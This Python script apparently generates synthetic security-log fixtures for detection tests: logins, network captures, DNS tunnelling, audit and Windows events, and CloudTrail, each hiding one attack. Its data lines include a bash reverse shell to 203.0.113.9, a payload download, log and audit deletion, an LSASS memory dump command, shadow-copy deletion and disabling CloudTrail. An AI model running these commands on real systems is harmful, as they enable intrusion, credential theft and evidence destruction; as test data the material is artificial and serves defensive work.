#!/usr/bin/env python3
"""Writes the inputs of the scenarios that are too long to write by hand: `scenarios/make.py [NAME..]`.

Each is a day (or more) of ordinary activity with one attack inside; the same seed writes the same bytes. Names and addresses are of the
ranges reserved for documentation (RFC 5737, RFC 2606) and for private networks (RFC 1918); what an attack does stands in the function that writes it.
"""
import datetime
import json
import pathlib
import random
import struct
import sys

HERE = pathlib.Path(__file__).parent
START = datetime.datetime(2026, 3, 2, tzinfo=datetime.timezone.utc)  # a Monday


def at(seconds):
    return START + datetime.timedelta(seconds=seconds)


def rfc3339(seconds):
    return at(seconds).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def write(name, file, lines):
    folder = HERE / name
    folder.mkdir(exist_ok=True)
    (folder / file).write_text("".join(line + "\n" for line in lines))


def jsonl(rows, key):
    return [json.dumps(row, separators=(",", ":")) for row in sorted(rows, key=lambda row: row[key])]


# ---------------------------------------------------------------------------------------------------------------- identity
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
]


def stolen_passwords(dice):
    """30 people sign in for 30 days; then a list of stolen pairs is tried from 80 addresses, and one account is entered."""
    rows = []
    people = [f"user{n}@example.org" for n in range(30)]
    for n, user in enumerate(people):
        home, agent, device = f"192.0.2.{20 + n}", AGENTS[n % 3], f"d{n:04x}"
        for day in range(30):
            when = day * 86_400 + 28_800 + dice.randrange(7_200)
            known = {"user_agent": agent, "device": device, "country": "DE", "asn": 64496}
            if dice.random() < 0.06:  # a typing error before it works
                rows.append({"time": rfc3339(when - 20), "user": user, "src_ip": home, "result": "failure", "reason": "password", **known})
            office = {"src_ip": "192.0.2.10", "country": "DE", "asn": 64497} if day % 3 == 0 else {"src_ip": home}
            rows.append({"time": rfc3339(when), "user": user, "result": "success", "session": f"s{n}-{day}", **known, **office})
    # One person travels: another country, the same device.
    for day in (24, 25, 26):
        rows.append({"time": rfc3339(day * 86_400 + 72_000), "user": people[7], "src_ip": "198.51.100.200", "result": "success", "session": f"t{day}",
                     "user_agent": AGENTS[1], "device": "d0007", "country": "FR", "asn": 64499})
    begin = 28 * 86_400 + 50_000
    for n in range(1_200):
        user = people[11] if n == 900 else f"customer{n}@example.org"
        rows.append({"time": rfc3339(begin + n * 3), "user": user, "src_ip": f"203.0.113.{1 + n % 80}", "result": "success" if n == 900 else "failure",
                     "user_agent": "python-requests/2.32", "country": "BR", "asn": 64510, **({"session": "stolen"} if n == 900 else {"reason": "password"})})
    rows.append({"time": rfc3339(begin + 2_760), "user": people[11], "src_ip": "203.0.113.21", "result": "success", "action": "password_reset",
                 "session": "stolen", "user_agent": "python-requests/2.32", "country": "BR", "asn": 64510})
    write("stolen-passwords-tried", "logins.jsonl", jsonl(rows, "time"))


def account_taken_over(dice):
    """20 people sign in for 45 days; beside them one works on both sides of a border, one roams, one uses a tunnel; one account is taken over from far away."""
    rows = []

    def sign_in(when, user, src, country, network, agent, device, session, action="login"):
        row = {"time": rfc3339(when), "user": f"{user}@example.org", "src_ip": src, "result": "success", "session": session, "user_agent": agent,
               "country": country, "asn": network, **({"device": device} if device else {}), **({"action": action} if action != "login" else {})}
        rows.append(row)

    for n in range(20):
        for day in range(45):
            when = day * 86_400 + 28_800 + dice.randrange(7_200)
            sign_in(when, f"user{n}", f"192.0.2.{20 + n}", "DE", 64496, AGENTS[n % 3], f"d{n:04x}", f"s{n}-{day}")
    for day in range(45):
        morning = day * 86_400 + 27_000 + dice.randrange(1_800)
        # Lives in France, works in Germany, half an hour apart.
        sign_in(morning, "commuter", "198.51.100.20", "FR", 64499, AGENTS[1], "d1001", f"c{day}-home")
        sign_in(morning + 1_800, "commuter", "192.0.2.60", "DE", 64496, AGENTS[1], "d1001", f"c{day}-work")
        # In Brazil for ten days; the telephone goes out through the carrier at home, and once through the hotel.
        sign_in(morning + 600, "roaming", "192.0.2.70", "DE", 64500, AGENTS[2], "d1002", f"r{day}")
        # The company's tunnel ends now here, now across the ocean.
        out, country = (("198.51.100.90", "DE"), ("198.51.100.130", "US"))[day % 3 == 2]
        sign_in(morning + 900, "tunnel", "192.0.2.80", "DE", 64496, AGENTS[0], "d1003", f"v{day}-home")
        sign_in(morning + 2_400, "tunnel", out, country, 64501, AGENTS[0], "d1003", f"v{day}-out")
    sign_in(30 * 86_400 + 70_000, "roaming", "198.51.100.200", "BR", 64502, AGENTS[2], "d1002", "hotel")
    begin = 44 * 86_400 + 28_800 + 9_000
    thief = ("203.0.113.66", "BR", 64510, "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0", None, "stolen")
    sign_in(begin, "user6", *thief)
    sign_in(begin + 240, "user6", *thief, action="password_reset")
    sign_in(begin + 400, "user6", *thief, action="mfa_reset")
    write("an-account-taken-over", "logins.jsonl", jsonl(rows, "time"))


# ----------------------------------------------------------------------------------------------------------------- network
def conn(seconds, src, sport, dst, dport, sent, received, duration=1.0, state="SF", proto="tcp", service=None):
    row = {"_path": "conn", "ts": round(START.timestamp() + seconds, 6), "uid": f"C{int(seconds * 1000):x}{sport:x}", "id.orig_h": src, "id.orig_p": sport,
           "id.resp_h": dst, "id.resp_p": dport, "proto": proto, "duration": duration, "orig_bytes": sent, "resp_bytes": received,
           "conn_state": state, "orig_pkts": 4 + sent // 1_400, "resp_pkts": 4 + received // 1_400, "orig_ip_bytes": sent + 200, "resp_ip_bytes": received + 200}
    return row | ({"service": service} if service else {})


def office_traffic(dice, hours):
    """40 workstations: web pages at human times, NTP every 1,024 s, an update check each hour."""
    rows = []
    for n in range(40):
        src = f"10.20.0.{100 + n}"
        for hour in range(hours):
            for _ in range(dice.randrange(3, 9)):
                when = hour * 3_600 + dice.random() * 3_600
                rows.append(conn(when, src, dice.randrange(30_000, 60_000), f"198.51.100.{dice.randrange(20, 90)}", 443, dice.randrange(800, 9_000),
                                 dice.randrange(4_000, 400_000), dice.random() * 20, service="ssl"))
            rows.append(conn(hour * 3_600 + 77 * n % 3_600 + dice.random() * 30, src, dice.randrange(30_000, 60_000), "198.51.100.5", 443, 1_900, 5_200, service="ssl"))
        for tick in range(hours * 3_600 // 1_024):
            rows.append(conn(tick * 1_024 + n * 3 + dice.random(), src, 123, "198.51.100.123", 123, 48, 48, 0.02, proto="udp", service="ntp"))
    return rows


def beacon(dice):
    """One workstation calls home each minute with a fifth of jitter, and sends 600 MB out on the same evening."""
    rows = office_traffic(dice, 9)
    when = 7_000.0
    while when < 9 * 3_600:
        rows.append(conn(when, "10.20.0.117", dice.randrange(30_000, 60_000), "203.0.113.50", 443, 310 + dice.randrange(6), 190, 0.3, service="ssl"))
        when += 60 * (0.9 + 0.2 * dice.random())
    write("a-workstation-calls-home", "conn.log", jsonl(rows, "ts"))


def exfiltration(dice):
    """A file server that sends little for five days, then 12 GB to one new address in an hour."""
    rows = []
    for day in range(6):
        for n in range(24):
            for host in (10, 11, 12):
                sent = dice.randrange(2_000_000, 9_000_000)
                rows.append(conn(day * 86_400 + n * 3_600 + dice.random() * 3_500, f"10.20.0.{host}", dice.randrange(30_000, 60_000), f"198.51.100.{20 + host}", 443,
                                 sent, sent // 20, 60.0, service="ssl"))
        # The backup: every night, much, always to the same place.
        rows.append(conn(day * 86_400 + 7_200, "10.20.0.12", 40_000 + day, "198.51.100.40", 22, 4_000_000_000 + dice.randrange(100_000_000), 4_000_000, 1_800.0, service="ssh"))
    for n in range(24):
        rows.append(conn(5 * 86_400 + 50_000 + n * 150, "10.20.0.10", 50_000 + n, "203.0.113.77", 443, 500_000_000 + dice.randrange(9_000_000), 900_000, 140.0, service="ssl"))
    write("a-server-sends-everything-out", "conn.log", jsonl(rows, "ts"))


class Capture:
    """A pcap file of Ethernet frames."""

    def __init__(self):
        self.packets = []

    def ip(self, when, src, dst, protocol, payload):
        quad = lambda text: bytes(int(part) for part in text.split("."))
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0x4000, 64, protocol, 0, quad(src), quad(dst))
        total = sum(struct.unpack("!10H", header))
        total = (total & 0xFFFF) + (total >> 16)
        header = header[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + header[12:]
        self.packets.append((when, bytes(12) + b"\x08\x00" + header + payload))

    def udp(self, when, src, sport, dst, dport, data):
        self.ip(when, src, dst, 17, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data)

    def tcp(self, when, src, sport, dst, dport, flags, seq=1, ack=0, data=b""):
        self.ip(when, src, dst, 6, struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 64_240, 0, 0) + data)

    def write(self, name, file):
        out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65_535, 1)
        for when, frame in sorted(self.packets, key=lambda packet: packet[0]):
            stamp = START.timestamp() + when
            out += struct.pack("<IIII", int(stamp), int(stamp % 1 * 1e6), len(frame), len(frame)) + frame
        folder = HERE / name
        folder.mkdir(exist_ok=True)
        (folder / file).write_bytes(out)


def dns(capture, when, client, name, kind=1, answer=b"\xc0\x00\x02\x01", code=0):
    number, port = int(when * 1000) & 0xFFFF, 20_000 + int(when * 7) % 40_000
    question = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
    capture.udp(when, client, port, "10.20.0.53", 53, struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 0) + question)
    said = b"" if code else b"\xc0\x0c" + struct.pack("!HHIH", kind, 1, 300, len(answer)) + answer
    head = struct.pack("!HHHHHH", number, 0x8180 | code, 1, 0 if code else 1, 0, 0)
    capture.udp(when + 0.02, "10.20.0.53", 53, client, port, head + question + said)


def dns_tunnel(dice):
    """A host carries data out in the names it asks for, one a second; the others ask for ordinary and for long CDN names."""
    capture = Capture()
    ordinary = ["www.example.com", "mail.example.com", "cdn.example.net", "api.example.net", "static.example.org", "updates.example.org"]
    for n in range(25):
        for _ in range(120):
            name = dice.choice(ordinary)
            if dice.random() < 0.15:
                name = f"{dice.randrange(16 ** 8):08x}.edge.cdn.example.net"
            dns(capture, dice.random() * 3_600, f"10.20.0.{100 + n}", name)
    alphabet = "abcdefghijklmnopqrstuvwxyz234567"
    for n in range(1_500):
        name = ".".join("".join(dice.choice(alphabet) for _ in range(50)) for _ in range(2)) + ".t.tunnel.example"
        text = "".join(dice.choice(alphabet) for _ in range(120)).encode()
        dns(capture, 600 + n * 1.0 + dice.random() * 0.2, "10.20.0.131", name, 16, bytes([len(text)]) + text)
    capture.write("data-in-dns-names", "dns.pcap")


def port_scan(dice):
    """A host asks 700 ports of a server and one port of 120 hosts; the others talk to what they know."""
    capture = Capture()
    for n in range(20):
        for turn in range(20):
            when, client, port = dice.random() * 900, f"10.20.0.{100 + n}", 30_000 + n * 100 + turn
            for step, (a, ap, b, bp, flags, data) in enumerate([(client, port, "198.51.100.80", 443, 2, b""), ("198.51.100.80", 443, client, port, 0x12, b""),
                                                               (client, port, "198.51.100.80", 443, 0x18, b"x" * 200), ("198.51.100.80", 443, client, port, 0x11, b"y" * 900),
                                                               (client, port, "198.51.100.80", 443, 0x11, b"")]):
                capture.tcp(when + step * 0.01, a, ap, b, bp, flags, 1 + step, step, data)
    for n, port in enumerate(dice.sample(range(1, 10_000), 700)):
        capture.tcp(300 + n * 0.05, "203.0.113.88", 45_000 + n % 900, "10.20.0.10", port, 2)
        capture.tcp(300.001 + n * 0.05, "10.20.0.10", port, "203.0.113.88", 45_000 + n % 900, 0x14)
    for n in range(120):
        capture.tcp(400 + n * 0.2, "203.0.113.88", 52_000, f"10.20.0.{1 + n}", 445, 2)
    capture.write("a-port-scan", "scan.pcap")


# ------------------------------------------------------------------------------------------------------------------- hosts
def audit(number, seconds, exe, arguments, uid, auid, tty="(none)"):
    stamp = f"audit({START.timestamp() + seconds:.3f}:{number})"
    named = " ".join(f'a{n}="{a}"' if " " not in a and '"' not in a else f"a{n}={a.encode().hex().upper()}" for n, a in enumerate(arguments))
    return [
        f'node=web-1 type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 ppid=811 pid={900 + number % 20_000} auid={auid} uid={uid} gid={uid} euid={uid} tty={tty} ses=4 comm="{exe.rsplit("/", 1)[-1]}" exe="{exe}" key="exec"',
        f"node=web-1 type=EXECVE msg={stamp}: argc={len(arguments)} {named}",
    ]


def linux_host(dice):
    """A web server: cron and an administrator as always; then the web user opens a shell to the outside, takes root, hides."""
    work = []
    for n in range(288):
        work.append((n * 300 + 1.0, "/usr/bin/run-parts", ["run-parts", "--report", "/etc/cron.hourly"], 0, 4294967295))
        if n % 4 == 0:
            work.append((n * 300 + 17.0, "/usr/bin/curl", ["curl", "-fsS", "https://updates.example.org/health"], 33, 4294967295))
    for n in range(6):
        work += [(30_000 + n * 400.0, "/usr/bin/journalctl", ["journalctl", "-u", "nginx", "-n", "50"], 1000, 1000),
                 (30_060 + n * 400.0, "/usr/bin/systemctl", ["systemctl", "reload", "nginx"], 0, 1000)]
    work += [(61_000.0, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], 33, 4294967295),
             (61_050.0, "/usr/bin/wget", ["wget", "-q", "http://203.0.113.9/x.sh", "-O", "/tmp/.x"], 33, 4294967295),
             (61_090.0, "/usr/bin/chmod", ["chmod", "u+s", "/tmp/.x"], 0, 4294967295),
             (61_140.0, "/usr/bin/systemctl", ["systemctl", "stop", "auditd"], 0, 4294967295),
             (61_150.0, "/usr/bin/rm", ["rm", "-rf", "/var/log/auth.log", "/var/log/nginx/access.log"], 0, 4294967295)]
    lines = []
    for number, (when, exe, arguments, uid, auid) in enumerate(sorted(work)):
        lines += audit(1_000 + number, when, exe, arguments, uid, auid)
    write("a-web-server-taken-over", "audit.log", lines)


def windows(seconds, event, channel, computer, **fields):
    return {"EventID": event, "Channel": channel, "Computer": computer, "TimeCreated": rfc3339(seconds)} | fields


def windows_host(dice):
    """An office of ten machines; on one a document starts an interpreter, passwords are read from memory, the log is cleared."""
    rows = []
    system = "C:\\Windows\\System32\\"
    for n in range(10):
        pc, user = f"pc{n}.office.example", f"user{n}"
        for hour in range(9):
            for program, parent in [("C:\\Program Files\\Mail\\mail.exe", "C:\\Windows\\explorer.exe"), (system + "svchost.exe", system + "services.exe"),
                                    (system + "taskhostw.exe", system + "svchost.exe"), ("C:\\Program Files\\Browser\\browser.exe", "C:\\Windows\\explorer.exe")]:
                rows.append(windows(28_800 + hour * 3_600 + dice.random() * 3_500, 4688, "Security", pc, NewProcessName=program, CommandLine=program,
                                    ParentProcessName=parent, SubjectUserName=user))
        rows.append(windows(28_700 + dice.random() * 60, 4624, "Security", pc, TargetUserName=user, TargetDomainName="OFFICE", LogonType=2, IpAddress="-"))
    # An administrator's script, as every morning: signed, with plain arguments.
    rows.append(windows(29_500, 4688, "Security", "pc9.office.example", NewProcessName=system + "WindowsPowerShell\\v1.0\\powershell.exe",
                        CommandLine="powershell.exe -File C:\\Admin\\inventory.ps1", ParentProcessName=system + "taskeng.exe", SubjectUserName="admin"))
    shell = system + "WindowsPowerShell\\v1.0\\powershell.exe"
    encoded = "powershell -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    for when, program, line, parent in [(50_000, shell, encoded, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
                                        (50_200, system + "rundll32.exe", "rundll32.exe comsvcs.dll, MiniDump 624 C:\\Temp\\o.dmp full", shell),
                                        (50_400, system + "vssadmin.exe", "vssadmin delete shadows /all /quiet", system + "cmd.exe")]:
        rows.append(windows(when, 4688, "Security", "pc3.office.example", NewProcessName=program, CommandLine=line, ParentProcessName=parent, SubjectUserName="user3"))
    rows.append(windows(50_500, 1102, "Security", "pc3.office.example", SubjectUserName="user3", Provider="Microsoft-Windows-Eventlog"))
    write("an-office-document-that-runs-code", "windows.jsonl", jsonl(rows, "TimeCreated"))


# ------------------------------------------------------------------------------------------------------------------- cloud
def call(seconds, source, name, user, address, region="eu-central-1", read=True, request=None, error=None, agent="aws-cli/2.31"):
    row = {"eventVersion": "1.08", "userIdentity": {"type": "IAMUser", "arn": f"arn:aws:iam::111122223333:user/{user}", "accountId": "111122223333", "userName": user},
           "eventTime": at(seconds).strftime("%Y-%m-%dT%H:%M:%SZ"), "eventSource": f"{source}.amazonaws.com", "eventName": name, "awsRegion": region,
           "sourceIPAddress": address, "userAgent": agent, "requestParameters": request, "responseElements": None, "eventID": f"{int(seconds * 10):08x}-{name}",
           "readOnly": read, "eventType": "AwsApiCall", "recipientAccountId": "111122223333"}
    return row | ({"errorCode": error} if error else {})


def cloud(dice):
    """A deployment account works as always for nine days; a stolen key then switches off the trail, opens a bucket, deletes the rest."""
    rows = []
    for day in range(9):
        for n in range(60):
            when = day * 86_400 + n * 1_400 + dice.random() * 600
            name, read = dice.choice([("DescribeInstances", True), ("GetObject", True), ("PutObject", False), ("ListBuckets", True)])
            source = "ec2" if name == "DescribeInstances" else "s3"
            rows.append(call(when, source, name, "deploy", "192.0.2.30", read=read, request={"bucketName": "site"} if source == "s3" else None))
        rows.append(call(day * 86_400 + 40_000, "iam", "ListUsers", "ada", "192.0.2.31"))
        rows.append(call(day * 86_400 + 40_100, "s3", "DeleteObject", "ada", "192.0.2.31", read=False, request={"bucketName": "site", "key": f"old-{day}"}))
    begin, thief = 8 * 86_400 + 60_000, {"user": "build-bot", "address": "203.0.113.40", "agent": "Boto3/1.40"}
    for n, (source, name) in enumerate([("sts", "GetCallerIdentity"), ("iam", "ListUsers"), ("iam", "ListRoles"), ("s3", "ListBuckets"), ("ec2", "DescribeInstances"),
                                        ("secretsmanager", "ListSecrets"), ("rds", "DescribeDBInstances"), ("lambda", "ListFunctions20150331"), ("kms", "ListKeys")]):
        rows.append(call(begin + n * 4, source, name, error="AccessDenied" if n > 5 else None, **thief))
    rows.append(call(begin + 120, "cloudtrail", "StopLogging", read=False, request={"name": "main"}, **thief))
    policy = json.dumps({"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::exports/*"}]})
    rows.append(call(begin + 180, "s3", "PutBucketPolicy", read=False, request={"bucketName": "exports", "bucketPolicy": json.loads(policy)}, **thief))
    for n in range(40):
        rows.append(call(begin + 300 + n * 2, "s3", "DeleteBucket" if n % 10 == 9 else "DeleteObjects", read=False, request={"bucketName": f"archive-{n % 7}"}, **thief))
    write("a-stolen-cloud-key", "cloudtrail.jsonl", jsonl(rows, "eventTime"))


ALL = {"stolen-passwords-tried": stolen_passwords, "an-account-taken-over": account_taken_over, "a-workstation-calls-home": beacon, "a-server-sends-everything-out": exfiltration, "data-in-dns-names": dns_tunnel,
       "a-port-scan": port_scan, "a-web-server-taken-over": linux_host, "an-office-document-that-runs-code": windows_host, "a-stolen-cloud-key": cloud}

for name in sys.argv[1:] or ALL:
    ALL[name](random.Random(f"bartizan {name}"))
